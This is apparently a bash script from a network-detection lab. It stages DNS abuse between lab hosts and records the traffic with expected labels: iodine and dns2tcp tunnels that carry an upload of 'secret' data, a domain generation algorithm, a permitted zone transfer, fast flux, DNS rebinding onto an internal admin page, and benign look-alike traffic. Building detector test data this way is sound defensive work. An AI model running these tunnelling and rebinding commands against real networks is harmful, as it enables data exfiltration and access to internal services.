# shellcheck shell=bash disable=SC2154 # sourced by record-samples.sh after lab.sh
# Abuse of DNS with iodine, dns2tcp and dig, and the strange but honest questions of mail servers and virus scanners.

sample_dns_tunnel_iodine() {
    begin dns_tunnel_iodine
    addresses server 203.0.113 55 55
    settle_all
    start server iodined -f -c -P laboratory -l 203.0.113.55 10.99.0.1/24 t.example.net
    sleep 1
    watch
    patience=40 on client iodine -f -r -P laboratory 203.0.113.53 t.example.net >"$work/iodine.log" 2>&1 &
    for _ in $(seq 30); do
        grep -qs 'Connection setup complete' "$work/iodine.log" && break
        sleep 1
    done
    on client ping -q -c 4 -i 0.3 10.99.0.1 >/dev/null || true
    on client curl -s --max-time 20 -o /dev/null http://10.99.0.1/files/report.bin -r 0-7999 || true
    head -c 4000 "$work/site/files/report.bin" >"$work/secret.bin"
    on client curl -s --max-time 20 -H 'Expect:' -o /dev/null --data-binary "@$work/secret.bin" http://10.99.0.1/login || true
    watched
    ip -n "$lab-client" link del dns0 || true
    no_addresses server 203.0.113 55 55
    expect dns_tunnel 10.20.0.10 203.0.113.53 "iodine under t.example.net"
    origin "A DNS tunnel with iodine" <<'TEXT'
iodine on 10.20.0.10 reaches iodined through the resolver 203.0.113.53, which passes questions under t.example.net on: it tries
record types and sizes, then a ping, an HTTP download of 8,000 bytes and an upload of 4,000 cross the tunnel. Many unique names,
long labels, NULL records.
TEXT
}

sample_dns_tunnel_dns2tcp() {
    begin dns_tunnel_dns2tcp
    addresses server 203.0.113 56 56
    settle_all
    mkdir -p "$work/empty"
    printf 'listen = 203.0.113.56\nport = 53\nuser = nobody\nchroot = %s/empty\ndomain = d.example.net\nresources = http:203.0.113.50:80\n' "$work" >"$work/dns2tcpd.conf"
    start server dns2tcpd -F -d 1 -f "$work/dns2tcpd.conf"
    start client dns2tcpc -d 1 -r http -l 8888 -z d.example.net 203.0.113.53
    sleep 2
    watch
    on client curl -s --max-time 30 -o /dev/null http://127.0.0.1:8888/files/report.bin -r 0-7999 || true
    head -c 4000 "$work/site/files/report.bin" >"$work/secret.bin"
    on client curl -s --max-time 20 -H 'Expect:' -o /dev/null --data-binary "@$work/secret.bin" http://127.0.0.1:8888/login || true
    watched
    no_addresses server 203.0.113 56 56
    expect dns_tunnel 10.20.0.10 203.0.113.53 "dns2tcp under d.example.net"
    origin "A DNS tunnel with dns2tcp" <<'TEXT'
dns2tcpc on 10.20.0.10 carries two HTTP requests (8,000 bytes down, 4,000 up) to dns2tcpd through the resolver 203.0.113.53: TXT
questions with long base64 labels under d.example.net, each name once.
TEXT
}

sample_dga() {
    begin dga
    local name
    settle_all
    watch
    # Letters from a small generator, as a piece of malware makes them from the date.
    for name in $(awk 'BEGIN {split("com net org info biz", t, " "); x = 20261126; for (i = 0; i < 80; i++) {n = ""; x = (x * 1103 + 12345) % 2147483648
            for (k = 10 + x % 8; k > 0; k--) {x = (x * 69069 + 5) % 2147483648; n = n sprintf("%c", 97 + int(x / 4096) % 26)} print n "." t[1 + i % 5]}}'); do
        on client dig +tries=1 +timeout=2 "$name" A >/dev/null || true
        sleep 0.2
    done
    watched
    expect dga 10.20.0.10 203.0.113.53 "80 domains of random letters, all NXDOMAIN"
    origin "Domain generation: eighty names of random letters" <<'TEXT'
dig on 10.20.0.10 asks 203.0.113.53 for 80 generated domains under five top-level domains within half a minute. None exists.
TEXT
}

sample_dns_axfr() {
    begin dns_axfr
    addresses server 203.0.113 52 52
    settle_all
    mkdir -p "$work/named"
    {
        printf '$TTL 300\n@ IN SOA ns admin 1 3600 600 86400 300\n@ IN NS ns\nns IN A 203.0.113.52\n'
        for n in $(seq 1 60); do echo "host-$n IN A 203.0.113.$n"; done
        printf 'vpn IN A 203.0.113.90\nintranet IN A 10.20.0.20\n_ldap._tcp IN SRV 0 0 389 host-1\n'
    } >"$work/named/zone"
    cat >"$work/named/conf" <<CONF
options { directory "$work/named"; listen-on { 203.0.113.52; }; listen-on-v6 { none; }; pid-file none; session-keyfile none; recursion no; allow-transfer { any; }; dnssec-validation no; };
controls { };
zone "corp.example.net" { type primary; file "zone"; };
zone "closed.example.net" { type primary; file "zone"; allow-transfer { none; }; };
CONF
    start server named -f -n 1 -c "$work/named/conf"
    sleep 2
    watch
    on client dig +tries=1 @203.0.113.52 corp.example.net NS >/dev/null || true
    on client dig +tries=1 @203.0.113.52 corp.example.net AXFR >/dev/null || true
    on client dig +tries=1 @203.0.113.52 closed.example.net AXFR >/dev/null || true
    watched
    no_addresses server 203.0.113 52 52
    expect dns_zone_transfer 10.20.0.10 203.0.113.52 "corp.example.net is given away, closed.example.net is refused"
    origin "Zone transfers: one is granted, one is refused" <<'TEXT'
dig AXFR on 10.20.0.10 asks BIND on 203.0.113.52 for the whole zone corp.example.net (67 records) over TCP and gets it; a second
transfer (closed.example.net) is refused.
TEXT
}

sample_dns_fast_flux() {
    begin dns_fast_flux
    settle_all
    watch
    for _ in 1 2 3; do on client dig +tries=1 flux.example.net A >/dev/null; done
    watched
    expect dns_fast_flux 10.20.0.10 203.0.113.53 "flux.example.net: 15 addresses in five networks, TTL 300"
    origin "Fast flux: one name, fifteen addresses all over the place" <<'TEXT'
dig on 10.20.0.10 asks 203.0.113.53 for flux.example.net three times: fifteen addresses of five networks in another order each
time, valid for five minutes.
TEXT
}

# rebind ADDRESS: the attacker's own name server, which now gives this address for its name, for a second.
rebind() {
    [ -z "${rebinder:-}" ] || kill "$rebinder"
    start server dnsmasq --keep-in-foreground --no-resolv --no-hosts --user=root --pid-file="$work/rebind.pid" --listen-address=203.0.113.57 --bind-interfaces \
        --host-record="rebind.example.net,$1,1" --local=/net/
    rebinder=${pids[-1]}
    sleep 1.5
}

sample_dns_rebinding() {
    begin dns_rebinding
    local rebinder=
    addresses server 203.0.113 57 57
    settle_all
    start desk python3 "$here/scripts/samples/services.py" web 80
    watch
    rebind 203.0.113.51
    on client curl -4 -s --max-time 2 -o /dev/null http://rebind.example.net/ || true
    rebind 10.20.0.20
    on client curl -4 -s --max-time 2 -o /dev/null http://rebind.example.net/admin || true
    watched
    no_addresses server 203.0.113 57 57
    expect dns_rebinding 10.20.0.10 10.20.0.20 "rebind.example.net is 203.0.113.51 and, a second later, 10.20.0.20"
    origin "DNS rebinding: a name that moves inside" <<'TEXT'
curl on 10.20.0.10 fetches a page of http://rebind.example.net/, which is at 203.0.113.51. Its answers may be kept for a second; then the attacker's name server
(dnsmasq on 203.0.113.57, asked through the resolver 203.0.113.53) gives 10.20.0.20, and the next request goes to the internal web server there.
TEXT
}

# --- twins --------------------------------------------------------------------------------------------------

sample_twin_dns_cdn() {
    begin twin_dns_cdn
    local n
    settle_all
    watch
    for n in $(seq 12); do
        # A virus scanner asks about a file by its hash.
        on client dig +tries=1 "$(printf 'file %s' "$n" | sha256sum | cut -c 1-56).f.rep.example.net" A >/dev/null
        on client dig +tries=1 "r$n---sn-4g5e6n$n.cdn.example.net" A >/dev/null
        on client dig +tries=1 "e$((n * 137)).dscb.edge-$n.cdn.example.net" A >/dev/null
        on client dig +tries=1 "e$((n * 137)).dscb.edge-$n.cdn.example.net" AAAA >/dev/null
        on client curl -4 -s -o /dev/null "http://e$((n * 137)).dscb.edge-$n.cdn.example.net/files/items.json"
    done
    watched
    quiet
    origin "Odd names with honest reasons: content networks and reputation lookups" <<'TEXT'
dig on 10.20.0.10 asks 203.0.113.53 for 24 machine-made names of a content network, to which it then connects, and for twelve
names that contain a file's hash (56 characters, answered by 127.0.0.1), as virus scanners do. Too few and too short for a tunnel.
TEXT
}

sample_twin_rdns() {
    begin twin_rdns
    local n questions=()
    settle_all
    # Peers of a mail server: all over the place, and asked for in one go when the queue runs.
    for n in $(seq 30); do questions+=(-x "192.0.$((n * 7 % 250)).$((n * 53 % 251))"); done
    for n in $(seq 15); do questions+=("$((n * 53 % 251)).$((n * 7 % 250)).0.192.bl.example.org" A); done
    watch
    on desk dig +tries=1 +timeout=2 "${questions[@]}" >/dev/null || true
    watched
    quiet
    origin "A mail server looks up its visitors" <<'TEXT'
dig on 10.20.0.20 asks 203.0.113.53 for the names of thirty scattered addresses and for fifteen of them in a list of bad senders
(bl.example.org, one is listed: 127.0.0.2), all within a second. No network is walked through, and NXDOMAIN is the usual answer.
TEXT
}

all+=(dns_tunnel_iodine dns_tunnel_dns2tcp dga dns_axfr dns_fast_flux dns_rebinding twin_dns_cdn twin_rdns)
